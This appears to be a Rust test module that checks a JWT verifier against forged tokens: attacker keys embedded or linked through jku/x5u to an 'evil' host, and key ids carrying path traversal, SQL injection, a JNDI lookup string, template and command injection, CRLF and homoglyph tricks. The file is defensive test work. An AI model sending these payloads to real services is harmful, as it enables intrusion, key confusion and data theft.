//! Keys that a token brings along, points to, or names as nobody should.

use serde_json::{Value, json};

use super::{
    row::{BAD_SIGNATURE, MALFORMED, Row, UNKNOWN_KEY, Want},
    scene::{ISOLATED_KID, LABEL, b64, good, header_with, signed},
};
use crate::support::{
    caller::Fit,
    keys::{KEY, KID, OTHER_KEY, OTHER_KID, SHORT_SIGNED},
};

pub(super) fn rows(evil: &str) -> Vec<Row> {
    [
        brought_along(evil),
        names(),
        kinds_of_kid(),
        keys_of_the_set(),
        other_sets(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// The attacker's key in the header, in each way that RFC 7515 knows, under our key's id and
/// under none of ours.
fn brought_along(evil: &str) -> Vec<Row> {
    let certificate = json!([b64([0x30; 64])]);
    let members = [
        ("jwk", OTHER_KEY.jwk(KID)),
        ("jwk", OTHER_KEY.jwk("h0stile")),
        ("jku", json!(format!("{evil}/evil.json"))),
        (
            "jku",
            json!(format!("https://forge.cdn.prod.atlassian-dev.net@{evil}/")),
        ),
        ("jku", json!("file:///etc/passwd")),
        ("x5u", json!(format!("{evil}/evil.pem"))),
        ("x5u", json!(["x"])),
        ("x5c", certificate),
        ("x5c", json!([])),
        ("x5t", json!(b64([7; 20]))),
        ("x5t#S256", json!(b64([7; 32]))),
        ("key", OTHER_KEY.jwk(KID)),
        ("keys", json!([OTHER_KEY.jwk(KID)])),
        ("iss", json!(evil)),
        ("epk", OTHER_KEY.jwk(KID)),
    ];
    let mut rows = Vec::new();
    for (place, (name, value)) in members.into_iter().enumerate() {
        let theirs = good().key(OTHER_KEY).header(name, value);
        let row = |what: &str, fit: &Fit, want| {
            Row::token(format!("{name} ({place}), {what}"), fit.token(), want)
        };
        rows.push(row("our key id", &theirs, BAD_SIGNATURE));
        let renamed = theirs.clone().header("kid", "h0stile");
        rows.push(row("their key id", &renamed, UNKNOWN_KEY));
        rows.push(row("no key id", &theirs.without_header("kid"), MALFORMED));
    }
    rows
}

/// Key ids that would be more than a name to whoever looks them up carelessly.
fn names() -> Vec<Row> {
    let names = [
        "../../../../../../dev/null",
        "/etc/passwd",
        "..\\..\\windows\\win.ini",
        "forge/invocation-token/../invocation-token/2f0c8a51-6d3b-4e97-b1a8-90c4d7e5f623",
        "http://127.0.0.1/evil.json",
        "h0stile' OR '1'='1",
        "h0stile' UNION SELECT 'secret' --",
        "h0stile\"; DROP TABLE installations; --",
        "${jndi:ldap://h0stile.example/a}",
        "{{7*7}}",
        "{IC_LABEL}",
        "$(touch /tmp/h0stile)",
        "h0stile\r\nx-injected: 1",
        "h0stile\0",
        "*",
        "%",
        ".",
        "undefined",
        "null",
        "0",
        "__proto__",
        "constructor",
    ];
    let near = [
        ("upper case", KID.to_uppercase()),
        ("a space before", format!(" {KID}")),
        ("a space after", format!("{KID} ")),
        ("a line end after", format!("{KID}\n")),
        ("a NUL after", format!("{KID}\0")),
        ("a slash after", format!("{KID}/")),
        ("percent signs", KID.replace('/', "%2F")),
        ("cut short", KID[..KID.len() - 1].to_owned()),
        (
            "its last part",
            KID.rsplit('/').next().unwrap_or_default().to_owned(),
        ),
        ("a Cyrillic o", KID.replacen('o', "\u{43e}", 1)),
        ("full-width slashes", KID.replace('/', "\u{ff0f}")),
        ("a hyphen of another kind", KID.replacen('-', "\u{2010}", 1)),
        ("a joiner of no width", KID.replacen('/', "/\u{200d}", 1)),
        ("twice, with a comma", format!("{KID},{KID}")),
    ];
    let token = |kid: &str| signed(header_with("kid", kid), good().claims.to_string());
    let mut rows: Vec<Row> = names
        .iter()
        .map(|kid| Row::token(format!("kid {kid:?}"), token(kid), UNKNOWN_KEY))
        .collect();
    rows.extend(
        near.map(|(what, kid)| Row::token(format!("our kid, {what}"), token(&kid), UNKNOWN_KEY)),
    );
    rows
}

/// `kid` that is no text, of no length or too much, there twice, or not at all.
fn kinds_of_kid() -> Vec<Row> {
    let claims = good().claims.to_string();
    let values = [
        ("empty", json!(""), MALFORMED),
        ("null", json!(null), MALFORMED),
        ("a number", json!(1), MALFORMED),
        ("true", json!(true), MALFORMED),
        ("a list", json!([KID]), MALFORMED),
        ("an object", json!({"kid": KID}), MALFORMED),
        ("257 characters", json!("k".repeat(257)), MALFORMED),
        ("256 characters", json!("k".repeat(256)), UNKNOWN_KEY),
        (
            "256 characters of four bytes",
            json!("\u{1f511}".repeat(256)),
            UNKNOWN_KEY,
        ),
        (
            "257 characters of four bytes",
            json!("\u{1f511}".repeat(257)),
            MALFORMED,
        ),
        (
            "three thousand characters",
            json!("k".repeat(3000)),
            MALFORMED,
        ),
    ];
    let mut rows: Vec<Row> = values
        .into_iter()
        .map(|(what, kid, want): (&str, Value, Want)| {
            Row::token(
                format!("kid: {what}"),
                signed(header_with("kid", kid), &claims),
                want,
            )
        })
        .collect();
    let headers = [
        ("no kid", r#"{"alg":"RS256"}"#.to_owned()),
        ("KID", format!(r#"{{"alg":"RS256","KID":"{KID}"}}"#)),
        (
            "kid twice",
            format!(r#"{{"alg":"RS256","kid":"h0stile","kid":"{KID}"}}"#),
        ),
        (
            "kid twice, once in escapes",
            format!(r#"{{"alg":"RS256","kid":"{KID}","\u006bid":"{OTHER_KID}"}}"#),
        ),
        (
            "kid with half a surrogate pair",
            r#"{"alg":"RS256","kid":"\ud800"}"#.to_owned(),
        ),
    ];
    rows.extend(headers.map(|(name, header)| Row::token(name, signed(header, &claims), MALFORMED)));
    rows
}

/// Keys that stand in the set for something else, or are too weak for anything.
fn keys_of_the_set() -> Vec<Row> {
    let others = [
        "encryption",
        "decrypt-only",
        "for-rs512",
        "for-ps256",
        "for-hs256",
        "even",
        "exponent-1",
    ];
    let mut rows: Vec<Row> = others
        .into_iter()
        .map(|kid| {
            let fit = good().key(OTHER_KEY).header("kid", kid);
            Row::token(format!("the key {kid}"), fit.token(), UNKNOWN_KEY)
        })
        .collect();
    rows.push(Row::token(
        "the key of 1024 bits",
        SHORT_SIGNED.trim(),
        UNKNOWN_KEY,
    ));
    let crossed = [
        (
            "one key's name, the other's signature",
            good().key(OTHER_KEY),
        ),
        (
            "the other's name, one key's signature",
            good().header("kid", OTHER_KID),
        ),
    ];
    rows.extend(crossed.map(|(name, fit)| Row::token(name, fit.token(), BAD_SIGNATURE)));
    rows
}

/// A key counts in its own cloud only.
fn other_sets() -> Vec<Row> {
    let isolated = good().claim("/icLabel", LABEL);
    let theirs = isolated.clone().key(OTHER_KEY).header("kid", ISOLATED_KID);
    let base = "https://api.stg.atlassian.com/ex/confluence/h0stile";
    vec![
        Row::token(
            "Isolated Cloud, by its own key",
            theirs.token(),
            Want::Accepted,
        ),
        Row::token(
            "Isolated Cloud, by the commercial key",
            isolated.token(),
            UNKNOWN_KEY,
        ),
        Row::token(
            "Isolated Cloud, by the commercial key in its name",
            isolated
                .clone()
                .key(KEY)
                .header("kid", ISOLATED_KID)
                .token(),
            BAD_SIGNATURE,
        ),
        Row::token(
            "Isolated Cloud, its key without its label",
            theirs.clone().without("/icLabel").token(),
            UNKNOWN_KEY,
        ),
        Row::token(
            "Isolated Cloud, its key and a null for a label",
            theirs.claim("/icLabel", json!(null)).token(),
            UNKNOWN_KEY,
        ),
        Row::token(
            "staging's API, by an unknown key",
            good()
                .claim("/app/apiBaseUrl", base)
                .header("kid", ISOLATED_KID)
                .token(),
            UNKNOWN_KEY,
        ),
    ]
}
